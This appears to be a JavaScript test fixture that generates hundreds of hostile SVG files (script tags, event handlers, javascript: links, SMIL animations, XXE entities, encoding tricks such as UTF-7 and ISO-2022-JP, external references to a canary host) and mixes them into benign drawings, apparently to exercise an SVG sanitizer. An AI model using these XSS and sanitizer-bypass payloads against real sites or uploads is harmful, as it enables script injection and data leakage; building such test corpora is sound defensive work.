// SVG files of a hostile author: a table of ways to run a script, to ask another host, or to become another document.
//
// In: nothing. Out: files by name, as text or bytes. Each calls `alert`, or asks the host canary.invalid, when a browser
// opens it, or when a reader touches what is in it; some only in other browsers than Chromium.

const SVG = "http://www.w3.org/2000/svg", XLINK = "http://www.w3.org/1999/xlink", XHTML = "http://www.w3.org/1999/xhtml";
const HOST = "https://canary.invalid";
const svg = (inside, more = "") => `<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" xmlns:h="${XHTML}" width="90" height="90" ${more}>${inside}</svg>`;
const RUN = "alert(1)";

const EVENTS = ["load", "unload", "error", "resize", "scroll", "click", "mousedown", "mouseup", "mouseover", "mouseout", "mousemove", "mouseenter",
  "focus", "focusin", "focusout", "activate", "keydown", "pointerdown", "pointerover", "pointerenter", "touchstart", "wheel", "begin", "end", "repeat", "animationstart",
  "animationend", "transitionend", "toggle", "copy", "paste", "contextmenu", "dblclick", "drag", "beforeinput", "beforematch", "securitypolicyviolation",
  "webkitanimationstart", "zoom", "abort", "auxclick", "slotchange"];
const SCHEMES = [`javascript:${RUN}`, `JAVASCRIPT:${RUN}`, `java&#9;script:${RUN}`, `java&#10;script:${RUN}`, `&#x6a;avascript:${RUN}`, ` javascript:${RUN}`, `&#1;javascript:${RUN}`,
  `javascript&#58;${RUN}`, `data:text/html,&lt;script>${RUN}&lt;/script>`, `data:image/svg+xml,&lt;svg xmlns='${SVG}' onload='${RUN}'/>`, "vbscript:msgbox(1)", `view-source:javascript:${RUN}`,
  `javascript://%0a${RUN}`, `blob:${HOST}/x`, `//canary.invalid/x`];
const ATTRIBUTES = [["href", ""], ["xlink:href", ""], ["l:href", `xmlns:l="${XLINK}"`]];
const TAGS = [`<h:script>${RUN}</h:script>`, `<h:img src="x" onerror="${RUN}"/>`, `<h:iframe src="javascript:${RUN}"/>`, `<h:iframe srcdoc="&lt;script>${RUN}&lt;/script>"/>`,
  `<h:object data="javascript:${RUN}"/>`, `<h:embed src="javascript:${RUN}"/>`, `<h:body onload="${RUN}"/>`, `<h:video><h:source onerror="${RUN}"/></h:video>`, `<h:audio src="x" onerror="${RUN}"/>`,
  `<h:details open="" ontoggle="${RUN}"/>`, `<h:input autofocus="" onfocus="${RUN}"/>`, `<h:link rel="stylesheet" href="${HOST}/x.css"/>`, `<h:style>@import "${HOST}/x.css";</h:style>`,
  `<h:base href="${HOST}/"/>`, `<h:meta http-equiv="refresh" content="0;url=javascript:${RUN}"/>`, `<h:form action="javascript:${RUN}"><h:button>x</h:button></h:form>`, `<h:a href="javascript:${RUN}">x</h:a>`,
  `<h:marquee onstart="${RUN}">x</h:marquee>`, `<h:template><h:script>${RUN}</h:script></h:template>`, `<h:link rel="preload" as="image" href="${HOST}/x"/>`];
const HOMES = { root: (x) => svg(x), group: (x) => svg(`<g>${x}</g>`), metadata: (x) => svg(`<metadata>${x}</metadata>`), title: (x) => svg(`<title>${x}</title>`),
  foreign: (x) => svg(`<foreignObject width="90" height="90">${x}</foreignObject>`), switch: (x) => svg(`<switch>${x}</switch>`),
  editor: (x) => svg(`<i:p xmlns:i="http://www.inkscape.org/namespaces/inkscape">${x}</i:p>`) };
const ENCODINGS = ["UTF-16", "UTF-16LE", "UTF-16BE", "UTF-7", "UTF-32", "ISO-2022-JP", "ISO-2022-KR", "ISO-2022-CN", "Shift_JIS", "EUC-JP", "GBK", "GB18030", "Big5", "HZ-GB-2312", "windows-1252",
  "ISO-8859-1", "US-ASCII", "IBM037", "x-user-defined", "utf8", "UTF-8 ", "replacement", "KOI8-R"];

function scripts() {
  const forms = [`<script>${RUN}</script>`, `<script href="data:text/javascript,${RUN}"/>`, `<script xlink:href="data:text/javascript,${RUN}"/>`, `<script href="${HOST}/x.js"/>`, `<script><![CDATA[${RUN}]]></script>`,
    `<script type="text/ecmascript">${RUN}</script>`, `<script type="module">${RUN}</script>`, `<script>&#97;lert(1)</script>`, `<s:script xmlns:s="${SVG}">${RUN}</s:script>`, `<a:script xmlns:a="&#104;ttp://www.w3.org/2000/svg">${RUN}</a:script>`,
    `<s:g xmlns:s="${SVG}"><s:script>${RUN}</s:script></s:g>`, `<_:script xmlns:_="${SVG}">${RUN}</_:script>`, `<ж:script xmlns:ж="${SVG}">${RUN}</ж:script>`, `<script\n>${RUN}</script\n>`, `<h:script src="data:text/javascript,${RUN}"/>`,
    `<x xmlns=""><script xmlns="${SVG}">${RUN}</script></x>`, `<script xml:space="preserve">${RUN}</script>`, `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`];
  return [...forms.map((form) => svg(form)), `<s:svg xmlns:s="${SVG}"><s:script>${RUN}</s:script></s:svg>`, `<script xmlns="${SVG}">${RUN}</script>`, `<x:script xmlns:x="${XHTML}">${RUN}</x:script>`,
    `<html xmlns="${XHTML}"><body onload="${RUN}"/></html>`, `<?xml version="1.0"?><x xmlns:h="${XHTML}"><h:script>${RUN}</h:script></x>`];
}

const handlers = () => EVENTS.flatMap((name) => [
  svg(`<rect width="90" height="90" tabindex="0" on${name}="${RUN}"><animate attributeName="x" dur="0.01s" repeatCount="2" on${name}="${RUN}"/></rect>`, `on${name}="${RUN}"`),
  ...(["load", "click", "begin", "focus"].includes(name) ? [svg("<g/>", `on${name}\n=\n'${RUN}'`), svg(`<g><image href="x" on${name}="${RUN}"/></g>`), svg(`<style on${name}="${RUN}">g{}</style>`), svg(`<title on${name}="${RUN}">x</title>`)] : []),
]);

const links = () => SCHEMES.flatMap((to) => ATTRIBUTES.map(([name, more]) => svg(`<a ${more} ${name}="${to}"><rect width="90" height="90"/></a>`)));

function animations() {
  const target = (name, more) => [`<set attributeName="${name}" to="javascript:${RUN}" ${more}/>`, `<animate attributeName="${name}" values="javascript:${RUN}" dur="9s" fill="freeze" ${more}/>`,
    `<animate attributeName="${name}" from="#" to="javascript:${RUN}" begin="0s" dur="0.01s" fill="freeze" ${more}/>`, `<animate attributeName="${name}" by="javascript:${RUN}" dur="1s" ${more}/>`];
  const names = [["href", ""], ["xlink:href", ""], ["l:href", `xmlns:l="${XLINK}"`], ["onclick", ""], [" href ", ""]];
  const inside = names.flatMap(([name, more]) => target(name, more)).map((x) => svg(`<a href="#a"><rect width="90" height="90"/>${x}</a>`));
  return [...inside, svg(`<a id="a"><rect width="90" height="90"/></a><set href="#a" attributeName="href" to="javascript:${RUN}"/>`), svg(`<a id="a"><rect width="90" height="90"/></a><animate xlink:href="#a" attributeName="xlink:href" to="javascript:${RUN}" dur="1s"/>`)];
}

function documents() {
  const body = `<svg xmlns="${SVG}"><script>${RUN}</script></svg>`;
  const xsl = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="${XHTML}"><script>${RUN}</script></html></xsl:template></xsl:stylesheet>`;
  const entity = (definition, use) => `<!DOCTYPE svg [${definition}]><svg xmlns="${SVG}">${use}</svg>`;
  return [
    `<?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(xsl)}"?><svg xmlns="${SVG}"/>`,
    `<?xml-stylesheet type="text/css" href="${HOST}/x.css"?><svg xmlns="${SVG}"/>`,
    `<?xml version="1.0"?><?xml-stylesheet href="data:text/css,@import '${HOST}/x.css';" type="text/css"?><svg xmlns="${SVG}"/>`,
    entity(`<!ENTITY x "&lt;script xmlns='${SVG}'>${RUN}&lt;/script>">`, "&x;"), entity(`<!ENTITY x "<script xmlns='${SVG}'>${RUN}</script>">`, "&x;"),
    entity(`<!ATTLIST svg onload CDATA "${RUN}">`, ""), entity(`<!ENTITY n "${SVG}">`, `<s:script xmlns:s="&n;">${RUN}</s:script>`),
    entity(`<!ENTITY j "javascript:">`, `<a href="&j;${RUN}"><rect width="90" height="90"/></a>`), entity(`<!ENTITY % p "<!ENTITY x 'y'>"> %p;`, ""),
    entity(`<!ENTITY x SYSTEM "${HOST}/x">`, "&x;"), `<!DOCTYPE svg SYSTEM "${HOST}/x.dtd"><svg xmlns="${SVG}"/>`,
    `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><svg xmlns="${SVG}"><desc>&nbsp;</desc></svg>`,
    `<!--<!DOCTYPE svg>--><!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]><svg xmlns="${SVG}"/>`, `<!doctype html><script>${RUN}</script>`, `<html><body onload="${RUN}">`, `<script>${RUN}</script>`,
    ...ENCODINGS.map((name) => `<?xml version="1.0" encoding="${name}"?>${svg(`<desc>\u001b(J</desc>+ADw-script+AD4-alert(1)+ADw-/script+AD4-`)}`),
    ...ENCODINGS.map((name) => `<?xml version="1.0" encoding="${name}"?>${svg("<g/>")}`),
    Buffer.from(`\ufeff${body}`, "utf16le"), Buffer.from(`\ufeff${body}`, "utf16le").swap16(), Buffer.from(`<?xml version="1.0" encoding="UTF-16LE"?>${body}`, "utf16le"), Buffer.from(body, "utf16le"),
    // In ISO-2022-JP the letters between the two signs are others: an XML reader that takes it for ASCII sees no script.
    Buffer.from(`<?xml version="1.0" encoding="ISO-2022-JP"?>${svg(`<title>\u001b$B</title><desc>\u001b(B<script>${RUN}</script>\u001b$B</desc>\u001b(B`)}`, "latin1"),
    Buffer.from(svg(`<desc>\xff\xfe</desc><script>${RUN}</script>`), "latin1"), `\u0000${body}`, body.replace("<script", "<\u0000script"),
    `<?xml version="1.1"?>${svg(`<g on\u0085load="${RUN}"/>`)}`, `${svg("<g/>")}${body}`, `${svg("<g/>")}<?xml-stylesheet href="${HOST}/x.css"?>`,
  ];
}

const references = () => [
  `<use href="data:image/svg+xml,%3Csvg id='x' xmlns='${SVG}' onload='${RUN}'/%3E#x"/>`, `<use xlink:href="data:application/xml,%3Cx/%3E#x"/>`, `<use href="${HOST}/x.svg#x"/>`, `<image href="${HOST}/x.png" width="9" height="9"/>`,
  `<image href="data:image/svg+xml,%3Csvg xmlns='${SVG}'%3E%3Cscript%3E${RUN}%3C/script%3E%3C/svg%3E" width="9" height="9"/>`, `<image href="data:text/html,x" width="9" height="9"/>`, `<feImage href="${HOST}/x"/>`,
  `<filter id="f"><feImage xlink:href="${HOST}/x.png"/></filter><rect filter="url(#f)" width="90" height="90"/>`, `<rect filter="url(${HOST}/x.svg#f)" width="9" height="9"/>`, `<rect fill="url('${HOST}/x.svg#f')" width="9" height="9"/>`,
  `<rect mask="url(//canary.invalid/x.svg#f)" width="9" height="9"/>`, `<rect cursor="url(${HOST}/x.cur),auto" width="9" height="9"/>`, `<style>@import "${HOST}/x.css";</style>`, `<style>@import url(${HOST}/x.css);</style>`,
  `<style>@\\69 mport "${HOST}/x.css";</style>`, `<style>svg{background:u\\72l(${HOST}/x)}</style>`, `<style>svg{background:url(${HOST}/x)}</style>`, `<style>svg{background:image-set("${HOST}/x" 1x)}</style>`,
  `<style>a{content:"/*"}@import "${HOST}/x.css";svg{background:url(${HOST}/x)}b{content:"*/"}</style>`, `<style>@font-face{font-family:x;src:url(${HOST}/x.woff2)}text{font-family:x}</style><text y="9">x</text>`,
  `<g style="background:url(${HOST}/x)"/>`, `<rect style="fill:url(&quot;${HOST}/x.svg#a&quot;)" width="9" height="9"/>`, `<linearGradient id="g" href="${HOST}/x.svg#g"/><rect fill="url(#g)" width="9" height="9"/>`,
  `<g xml:base="${HOST}/"><image href="x.png" width="9" height="9"/></g>`, `<tref xlink:href="${HOST}/x.svg#a"/>`, `<text><textPath href="${HOST}/x.svg#a">x</textPath></text>`, `<animate href="${HOST}/x.svg#a" attributeName="x"/>`,
  `<font-face-uri xlink:href="${HOST}/x"/>`, `<cursor xlink:href="${HOST}/x.cur"/>`, `<color-profile xlink:href="${HOST}/x" name="x"/>`, `<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mtext href="javascript:${RUN}">x</m:mtext></m:math>`,
  `<m:math xmlns:m="http://www.w3.org/1998/Math/MathML" onclick="${RUN}"/>`, `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#x"/>`, `<b:binding xmlns:b="http://www.mozilla.org/xbl"/>`,
  `<i:x xmlns:i="http://www.inkscape.org/namespaces/inkscape" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" xlink:href="javascript:${RUN}"/>`, `<x:y xmlns:x="urn:x"/>`, `<iframe src="javascript:${RUN}"/>`,
  `<discard begin="0s"/>`, `<video src="x" onerror="${RUN}"/>`, `<embed src="javascript:${RUN}"/>`, `<audio href="${HOST}/x"/>`, `<prefetch href="${HOST}/x"/>`, `<link rel="stylesheet" href="${HOST}/x.css"/>`,
].map((inside) => svg(inside));

/** Drawings with pieces of hostile files in them, wherever a piece can stand: in most nothing is left that is well formed. */
export function mixtures(drawings, files, count, next) {
  const any = (list) => list[Math.floor(next() * list.length)];
  const pieces = (text) => text.match(/<!--[^]*?-->|<[^>]*>|[^<]+/g) ?? [text];
  const [good, bad] = [drawings.map(String), files.filter((file) => typeof file === "string")];
  const attribute = () => any(any(bad).match(/\s[\w:-]+\s*=\s*(?:"[^"]*"|'[^']*')/g) ?? [""]);
  const inTag = (piece) => piece.replace(/^(<[\w:]+)/, (tag) => tag + attribute());
  return Object.fromEntries(Array.from({ length: count }, (_, n) => {
    const parts = pieces(any(good));
    for (let times = 1 + Math.floor(next() * 2); times > 0; times -= 1) {
      const at = 1 + Math.floor(next() * (parts.length - 1));
      const from = pieces(any(bad)), start = Math.floor(next() * from.length);
      if (next() < 0.5) parts.splice(at, 0, ...from.slice(start, start + 1 + Math.floor(next() * 3)));
      else parts[at] = inTag(parts[at]);
    }
    return [`mixture-${n}.svg`, parts.join("")];
  }));
}

/** Every file: name -> content. */
export function hostile() {
  const tags = TAGS.flatMap((tag) => Object.values(HOMES).map((home) => home(tag)));
  const all = { script: scripts(), handler: handlers(), link: links(), animation: animations(), tag: tags, document: documents(), reference: references() };
  return Object.fromEntries(Object.entries(all).flatMap(([kind, files]) => files.map((file, n) => [`${kind}-${n}.svg`, file])));
}
